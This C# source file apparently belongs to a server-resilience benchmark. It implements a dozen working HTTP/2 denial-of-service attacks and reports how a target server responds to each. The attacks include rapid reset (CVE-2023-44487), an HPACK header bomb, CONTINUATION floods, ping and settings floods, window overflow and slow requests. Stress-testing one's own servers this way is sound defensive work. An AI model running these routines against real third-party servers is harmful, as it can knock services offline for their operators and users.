using System.Collections.Frozen;

namespace GenAiLab.Cli.Benchmarks.Abuse;

/// <summary>
/// What can be done to a server by frames of HTTP/2 that no client library would send. Each is one connection's worth,
/// and tells how the server took it.
/// </summary>
internal static class FrameAbuses
{
    private const int Batch = 100;
    private const int InitialWindowSize = 4;
    private const int DynamicEntries = 61;
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(10);

    /// <summary>By name.</summary>
    public static FrozenDictionary<string, Func<AbuseTarget, CancellationToken, Task<string>>> All { get; } =
        new Dictionary<string, Func<AbuseTarget, CancellationToken, Task<string>>>
        {
            ["rapid reset"] = RapidResetAsync,
            ["more streams than allowed"] = ManyStreamsAsync,
            ["header block without end"] = EndlessHeadersAsync,
            ["a mebibyte of headers"] = HugeHeadersAsync,
            ["one header thirty thousand times"] = HeaderBombAsync,
            ["pings, answers unread"] = (target, cancellation) => FloodAsync(target, Http2Frames.Frame(FrameType.Ping, 0, 0, new byte[8]), cancellation),
            ["settings, answers unread"] = (target, cancellation) => FloodAsync(target, Http2Frames.Setting(InitialWindowSize, 1), cancellation),
            ["data frames of nothing"] = EmptyDataAsync,
            ["window beyond its limit"] = WindowOverflowAsync,
            ["frame beyond its limit"] = OversizedFrameAsync,
            ["window of nothing"] = ClosedWindowAsync,
            ["request that never comes"] = SilenceAsync,
        }.ToFrozenDictionary();

    /// <summary>Requests that are whole, each taken back in the same breath (CVE-2023-44487).</summary>
    public static async Task<string> RapidResetAsync(AbuseTarget target, CancellationToken cancellation)
    {
        await using var connection = await RawConnection.OpenAsync(target.Address, reads: true, cancellation);
        await SendStreamsAsync(connection, target, 20_000, reset: true, cancellation);
        return await connection.EndingAsync(Patience, cancellation);
    }

    private static async Task<string> ManyStreamsAsync(AbuseTarget target, CancellationToken cancellation)
    {
        await using var connection = await RawConnection.OpenAsync(target.Address, reads: true, cancellation);
        var headers = Http2Frames.CallHeaders(target.Path);
        byte[] frames = [.. Enumerable.Range(0, 2_000).SelectMany(at => Http2Frames.Frame(FrameType.Headers, Http2Frames.EndHeaders, (2 * at) + 1, headers))];
        await connection.SendAsync(frames, cancellation);
        await connection.EndingAsync(TimeSpan.FromSeconds(1), cancellation);
        return $"{connection.Resets.GetValueOrDefault("REFUSED_STREAM"):N0} of 2,000 refused";
    }

    private static async Task<string> EndlessHeadersAsync(AbuseTarget target, CancellationToken cancellation)
    {
        await using var connection = await RawConnection.OpenAsync(target.Address, reads: true, cancellation);
        var block = Http2Frames.Header("x-filler", new string('a', 8_000));
        await connection.SendAsync(Http2Frames.Frame(FrameType.Headers, 0, 1, Http2Frames.CallHeaders(target.Path)), cancellation);
        var sent = 0L;
        while (sent < 64L << 20 && await connection.SendAsync(Http2Frames.Frame(FrameType.Continuation, 0, 1, block), cancellation))
        {
            sent += block.Length;
        }

        return $"{await connection.EndingAsync(Patience, cancellation)}";
    }

    private static async Task<string> HugeHeadersAsync(AbuseTarget target, CancellationToken cancellation)
    {
        await using var connection = await RawConnection.OpenAsync(target.Address, reads: true, cancellation);
        byte[] block = [.. Http2Frames.CallHeaders(target.Path), .. Enumerable.Range(0, 128).SelectMany(static at => Http2Frames.Header($"x-filler-{at}", new string('a', 8_000)))];
        var chunks = block.Chunk(Http2Frames.LargestPayload).ToList();
        for (var at = 0; at < chunks.Count; at++)
        {
            var flags = at == chunks.Count - 1 ? Http2Frames.EndHeaders : (byte)0;
            if (!await connection.SendAsync(Http2Frames.Frame(at == 0 ? FrameType.Headers : FrameType.Continuation, flags, 1, chunks[at]), cancellation))
            {
                break;
            }
        }

        return await connection.EndingAsync(Patience, cancellation);
    }

    // One field of 4,000 bytes in the table, and a byte for each time that it is meant again: 117 MiB from two frames.
    private static async Task<string> HeaderBombAsync(AbuseTarget target, CancellationToken cancellation)
    {
        await using var connection = await RawConnection.OpenAsync(target.Address, reads: true, cancellation);
        byte[] first = [.. Http2Frames.CallHeaders(target.Path), .. Http2Frames.Header("x-bomb", new string('b', 4_000), remember: true)];
        var again = Enumerable.Repeat((byte)(0x80 | (DynamicEntries + 1)), Http2Frames.LargestPayload - 1).ToArray();
        await connection.SendAsync(Http2Frames.Frame(FrameType.Headers, 0, 1, first), cancellation);
        await connection.SendAsync(Http2Frames.Frame(FrameType.Continuation, 0, 1, again), cancellation);
        await connection.SendAsync(Http2Frames.Frame(FrameType.Continuation, Http2Frames.EndHeaders, 1, again), cancellation);
        return await connection.EndingAsync(Patience, cancellation);
    }

    // Each asks for an answer, and nobody takes the answers: they would pile up in the server.
    private static async Task<string> FloodAsync(AbuseTarget target, byte[] frame, CancellationToken cancellation)
    {
        await using var connection = await RawConnection.OpenAsync(target.Address, reads: false, cancellation);
        byte[] frames = [.. Enumerable.Repeat(frame, 1_000).SelectMany(static one => one)];
        for (var sent = 0; sent < 2_000_000; sent += 1_000)
        {
            using var stalled = CancellationTokenSource.CreateLinkedTokenSource(cancellation);
            stalled.CancelAfter(TimeSpan.FromSeconds(2));
            try
            {
                if (!await connection.SendAsync(frames, stalled.Token))
                {
                    return $"closed after {sent:N0} frames";
                }
            }
            catch (OperationCanceledException) when (!cancellation.IsCancellationRequested)
            {
                return $"not taken any more after {sent:N0} frames";
            }
        }

        return "open";
    }

    private static async Task<string> EmptyDataAsync(AbuseTarget target, CancellationToken cancellation)
    {
        await using var connection = await RawConnection.OpenAsync(target.Address, reads: true, cancellation);
        await connection.SendAsync(Http2Frames.Frame(FrameType.Headers, Http2Frames.EndHeaders, 1, Http2Frames.CallHeaders(target.Path)), cancellation);
        byte[] frames = [.. Enumerable.Repeat(Http2Frames.Frame(FrameType.Data, 0, 1, []), 1_000).SelectMany(static one => one)];
        var sent = 0;
        while (sent < 500_000 && await connection.SendAsync(frames, cancellation))
        {
            sent += 1_000;
        }

        return $"{await connection.EndingAsync(TimeSpan.FromSeconds(1), cancellation)} after {sent:N0} frames";
    }

    private static async Task<string> WindowOverflowAsync(AbuseTarget target, CancellationToken cancellation)
    {
        await using var connection = await RawConnection.OpenAsync(target.Address, reads: true, cancellation);
        await connection.SendAsync(Http2Frames.Frame(FrameType.WindowUpdate, 0, 0, [0x7F, 0xFF, 0xFF, 0xFF]), cancellation);
        return await connection.EndingAsync(Patience, cancellation);
    }

    private static async Task<string> OversizedFrameAsync(AbuseTarget target, CancellationToken cancellation)
    {
        await using var connection = await RawConnection.OpenAsync(target.Address, reads: true, cancellation);
        await connection.SendAsync(Http2Frames.Frame(FrameType.Headers, Http2Frames.EndHeaders, 1, Http2Frames.CallHeaders(target.Path)), cancellation);
        await connection.SendAsync(Http2Frames.Frame(FrameType.Data, 0, 1, new byte[1 << 20]), cancellation);
        return await connection.EndingAsync(Patience, cancellation);
    }

    // Whole requests whose answers may not be sent: the server has to keep them, or to halt what makes them.
    private static async Task<string> ClosedWindowAsync(AbuseTarget target, CancellationToken cancellation)
    {
        await using var connection = await RawConnection.OpenAsync(target.Address, reads: true, cancellation);
        await connection.SendAsync(Http2Frames.Setting(InitialWindowSize, 0), cancellation);
        await SendStreamsAsync(connection, target, 200, reset: false, cancellation);
        return await connection.EndingAsync(TimeSpan.FromSeconds(1), cancellation);
    }

    // A call is begun, and its message does not follow: the least rate of a body is 240 bytes a second, after five.
    private static async Task<string> SilenceAsync(AbuseTarget target, CancellationToken cancellation)
    {
        await using var connection = await RawConnection.OpenAsync(target.Address, reads: true, cancellation);
        await connection.SendAsync(Http2Frames.Frame(FrameType.Headers, Http2Frames.EndHeaders, 1, Http2Frames.CallHeaders(target.Path)), cancellation);
        return await connection.EndingAsync(TimeSpan.FromSeconds(20), cancellation);
    }

    // As many whole requests as the server takes.
    private static async Task<int> SendStreamsAsync(RawConnection connection, AbuseTarget target, int count, bool reset, CancellationToken cancellation)
    {
        var (headers, message) = (Http2Frames.CallHeaders(target.Path), target.Message);
        var sent = 0;
        while (sent < count)
        {
            List<byte> frames = [];
            for (var at = 0; at < Batch; at++, sent++)
            {
                var stream = (2 * sent) + 1;
                frames.AddRange(Http2Frames.Frame(FrameType.Headers, Http2Frames.EndHeaders, stream, headers));
                frames.AddRange(Http2Frames.Frame(FrameType.Data, reset ? Http2Frames.EndStream : (byte)0, stream, message));
                if (reset)
                {
                    frames.AddRange(Http2Frames.Reset(stream));
                }
            }

            if (!await connection.SendAsync(frames.ToArray(), cancellation))
            {
                break;
            }
        }

        return sent;
    }
}
